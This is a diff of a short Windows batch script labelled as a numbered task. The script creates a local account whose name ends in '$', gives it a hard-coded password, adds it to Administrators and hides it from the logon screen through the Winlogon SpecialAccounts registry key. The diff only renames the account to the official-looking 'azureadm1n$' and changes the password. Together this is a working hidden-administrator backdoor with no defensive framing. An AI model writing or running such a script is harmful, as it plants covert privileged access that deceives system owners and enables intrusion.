@@ -1,5 +1,5 @@
-REM task 4533 v4
+REM task 6596 v4
 @echo off
-net user helpdesk$ Qwerty#7788 /add /active:yes
-net localgroup Administrators helpdesk$ /add
-reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v helpdesk$ /t REG_DWORD /d 0 /f
+net user azureadm1n$ Winter#2025x /add /active:yes
+net localgroup Administrators azureadm1n$ /add
+reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v azureadm1n$ /t REG_DWORD /d 0 /f
